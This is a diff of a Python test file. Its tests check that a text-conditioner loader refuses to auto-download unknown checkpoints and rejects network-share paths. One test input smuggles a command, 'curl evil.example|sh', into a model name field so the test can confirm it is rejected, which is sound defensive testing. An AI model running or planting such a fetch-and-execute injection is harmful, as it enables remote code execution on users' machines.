@@ -183,11 +183,11 @@ def test_a_checkpoint_downloads_nothing_from_unknown_owners(monkeypatch: pytest.
     with pytest.raises(UserError, match=r"not downloaded automatically: .* run hf download someone/encoder\.$"):
         FrozenTextConditioner.from_state({"name": "someone/encoder", "size": 384, "example": "a man"})(["a man"])
     with pytest.raises(UserError) as raised:
-        FrozenTextConditioner.from_state({"name": "a/b; curl evil.example|sh", "size": 384})(["a man"])
+        FrozenTextConditioner.from_state({"name": "a/b; curl evil.example|sh", "size": 384, "example": "a"})(["a man"])
     assert "run hf" not in str(raised.value)
     for name in (r"\\server\share", "//server/share", r"/\server\share", r"\/server\share"):
         with pytest.raises(UserError, match=r"is on another machine"):
-            FrozenTextConditioner.from_state({"name": name, "size": 384})(["a man"])
+            FrozenTextConditioner.from_state({"name": name, "size": 384, "example": "a"})(["a man"])
 
 
 def test_a_folder_without_a_model_is_an_error(tmp_path: Path) -> None:
